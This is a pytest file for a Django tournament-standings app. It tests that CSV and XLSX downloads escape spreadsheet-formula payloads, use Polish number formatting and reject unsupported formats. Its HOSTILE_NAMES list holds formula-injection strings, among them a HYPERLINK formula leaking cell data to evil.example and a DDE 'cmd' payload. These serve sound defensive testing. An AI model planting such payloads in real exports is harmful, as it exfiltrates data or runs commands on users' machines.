"""The public CSV and XLSX downloads: a name cannot become a spreadsheet formula,
and only the offered formats are answered."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from league.public.tables import StandingExport, standing_table
from tests.factories import (
    PlayerFactory,
    RegistrationFactory,
    SeasonFactory,
    TeamFactory,
    TournamentFactory,
    played_series,
)

pytestmark = pytest.mark.django_db

# what a spreadsheet would run or treat as the start of a formula (OWASP's list)
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\tTab",
    "\rPowrót",
    "=1",
]


@pytest.fixture
def tournament():
    """One closed series of two tables: players named like formulas, one team of them named like a formula too."""
    tournament = TournamentFactory(season=SeasonFactory())
    players = [PlayerFactory(first_name=name, last_name="Kowalski") for name in HOSTILE_NAMES]
    team = TeamFactory(name="=1+2", members=players[:4])
    for index, player in enumerate(players):
        RegistrationFactory(tournament=tournament, player=player, team=team if index < 4 else None)
    tables = [list(zip(players[start : start + 4], (30, 10, -10, -30), strict=True)) for start in (0, 4)]
    played_series(tournament, 1, tables)
    return tournament


def standings_url(tournament) -> str:
    return reverse("public:standings", args=[tournament.slug])


def season_url(tournament) -> str:
    return reverse("public:season", args=[tournament.season.slug])


def xlsx_cells(content: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def csv_rows(content: bytes) -> list[list[str]]:
    """The rows of a CSV download as Polish Excel reads it: UTF-8 after a BOM, ``;`` between cells."""
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def text_cells(cells: list[openpyxl.cell.Cell]) -> list[str]:
    return [cell.value for cell in cells if isinstance(cell.value, str) and cell.value]


@pytest.mark.parametrize("page", [standings_url, season_url])
@pytest.mark.parametrize("ranking", ["individual", "teams"])
def test_an_xlsx_download_holds_hostile_names_as_text_not_formulas(client, tournament, page, ranking):
    response = client.get(page(tournament), {"_export": "xlsx", "lista": ranking})

    cells = xlsx_cells(response.content)
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = text_cells(cells)
    assert "'=1+2" in names
    assert not [name for name in names if name[0] in "=+-@\t\r"]


@pytest.mark.parametrize("page", [standings_url, season_url])
def test_a_csv_download_starts_no_cell_like_a_formula(client, tournament, page):
    response = client.get(page(tournament), {"_export": "csv", "lista": "individual"})

    rows = csv_rows(response.content)
    names = [row[1] for row in rows[1:]]
    assert sorted(names) == sorted(f"'{name} Kowalski" for name in HOSTILE_NAMES)
    assert sorted(row[2] for row in rows[1:]) == [""] * 4 + ["'=1+2"] * 4


def test_the_points_stay_numbers_in_the_xlsx(client, tournament):
    response = client.get(standings_url(tournament), {"_export": "xlsx", "lista": "individual"})

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    small_points = [row[4] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(small_points) == [-30, -30, -10, -10, 10, 10, 30, 30]


@pytest.mark.parametrize("page", [standings_url, season_url])
@pytest.mark.parametrize("export_format", ["ods", "yaml", "xls", "json", "latex", "tsv", "pdf", ""])
def test_a_format_that_is_not_offered_shows_the_page_instead(client, tournament, page, export_format):
    response = client.get(page(tournament), {"_export": export_format, "lista": "individual"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response


@pytest.fixture
def shared_points():
    """A tournament whose first two players share a place, so their big points end in a half."""
    tournament = TournamentFactory(season=SeasonFactory())
    players = PlayerFactory.create_batch(4, last_name="Kąkol")
    for player in players:
        RegistrationFactory(tournament=tournament, player=player)
    played_series(tournament, 1, [list(zip(players, (20, 20, -10, -30), strict=True))])
    return tournament


def test_a_csv_download_opens_in_polish_excel_with_a_decimal_comma(client, shared_points):
    response = client.get(
        standings_url(shared_points), {"_export": "csv", "lista": "individual"}, HTTP_ACCEPT_LANGUAGE="pl"
    )

    header, *rows = csv_rows(response.content)
    assert header[:2] == ["Miejsce", "Imię i nazwisko"] and "Kąkol" in rows[0][1]
    big_points = [row[header.index("Duże punkty")] for row in rows]
    assert [value for value in big_points if "." in value] == []
    assert [value for value in big_points if "," in value]  # the shared place's half point
    assert sorted(float(value.replace(",", ".")) for value in big_points) == sorted(
        row["big_points"]
        for row in client.get(reverse("public:api_standings", args=[shared_points.slug])).json()["individual"]
    )


@pytest.mark.parametrize(
    ("ranking", "title"), [("individual", "Klasyfikacja indywidualna"), ("teams", "Klasyfikacja drużynowa")]
)
def test_an_xlsx_sheet_is_named_after_its_list_with_numbers_as_numbers(client, tournament, ranking, title):
    response = client.get(standings_url(tournament), {"_export": "xlsx", "lista": ranking}, HTTP_ACCEPT_LANGUAGE="pl")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == title
    header, *rows = sheet.iter_rows(values_only=True)
    points = [row[header.index("Małe punkty")] for row in rows]
    assert points and all(isinstance(value, int) for value in points)


def test_a_sheet_name_keeps_within_excels_limit(client, tournament):
    with translation.override("pl"):
        long_title = "Klasyfikacja zawodników spoza drużyn: kobiety i mężczyźni"
        table = standing_table([], teams=False, big_points=True)
        content = StandingExport("xlsx", table, title=long_title).export()
    title = openpyxl.load_workbook(io.BytesIO(content)).active.title
    assert len(title) <= 31 and long_title.startswith(title.replace("-", ":"))
